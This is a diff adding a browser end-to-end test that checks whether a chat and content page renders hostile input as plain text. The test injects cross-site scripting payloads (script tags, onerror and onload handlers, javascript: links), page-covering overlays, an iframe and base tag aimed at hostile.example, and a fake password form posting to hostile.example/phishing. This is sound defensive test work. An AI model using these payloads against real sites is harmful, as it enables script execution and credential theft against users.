@@ -63,6 +63,56 @@ test('VIEW-129 VIEW-141~ F1~ F2~ F5~ whatever a frame tries, as a video, a writt
   expect(said).toEqual([]);
 });
 
+/** What nobody may write into a page: it would run, lie over it, send what is typed elsewhere, or load from elsewhere. */
+const HOSTILE_TEXT = [
+  '<p>Words</p><script>window.ran = true</script><img src="https://hostile.example/x.png" onerror="window.ran = true">',
+  '<p style="position:fixed;inset:0" onclick="window.ran = true" id="root">Over</p><style>main{display:none}</style>',
+  '<form action="https://hostile.example/phishing"><input name="password"><button>Sign in</button></form>',
+  '<a href="javascript:window.ran=true">one</a> <a href="data:text/html,x">two</a> <a href="https://grace.example">three</a>',
+  '<iframe src="https://hostile.example/page"></iframe><svg onload="window.ran = true"><base href="https://hostile.example">',
+].join('');
+
+test('VIEW-129~ PAN-31~ CNT-145~ E17~ whatever is written into description, notes, names and chat stays words', async ({
+  staff,
+  page,
+}) => {
+  const asked: string[] = [];
+  await page.context().route(`${HOSTILE}/**`, (route) => {
+    asked.push(route.request().url());
+    return route.abort();
+  });
+  const channel = await staff.addChannel({ name: `Chapel <img src=x onerror="window.ran=true">` });
+  await staff.addContent(channel, {
+    name: '</title><script>window.ran = true</script> Vespers',
+    description: HOSTILE_TEXT,
+    notes: { enabled: true, defaultContent: HOSTILE_TEXT },
+    links: [aLink('<b onclick="window.ran = true">Give</b>', theirs('newTab'))],
+    share: { enabled: true, defaultMessage: HOSTILE_TEXT.slice(0, 400) },
+  });
+  const chat = new Chat(page);
+  await page.goto(`/grace/${channel.key}`);
+  await chat.join('Amos "><img src=x onerror=window.ran=true>');
+  await chat.say('<a href="javascript:window.ran=true">Hello</a> <b style="position:fixed">all</b>');
+  await expect(chat.log.getByRole('listitem').locator('time')).toBeVisible();
+  await expect(page.getByText('Words').first()).toBeVisible();
+  await page.getByRole('button', { name: 'Notes', exact: true }).click();
+  await expect(page.getByRole('textbox', { name: 'Your notes' })).toContainText('Words');
+  const found = await page.evaluate(() => ({
+    ran: Reflect.get(window, 'ran'),
+    foreign: document.querySelectorAll('main form, main svg[onload], iframe, base, [onclick], [onerror], img[src="x"]')
+      .length,
+    fixed: [...document.querySelectorAll('main p, main b')].filter((one) => getComputedStyle(one).position === 'fixed')
+      .length,
+    links: [...document.querySelectorAll<HTMLAnchorElement>('a[href]')].filter(
+      ({ href }) => !/^(https?|mailto):/.test(href),
+    ).length,
+  }));
+  expect(found).toEqual({ ran: undefined, foreign: 0, fixed: 0, links: 0 });
+  expect(asked).toEqual([]);
+  const three = page.getByRole('link', { name: 'three' }).first();
+  await expect(three).toHaveAttribute('rel', /noopener/);
+});
+
 /** What would differ if somebody had led the page away, loaded it anew or written to it. */
 async function stateOf(page: Page) {
   const seen = await page.evaluate(() => ({
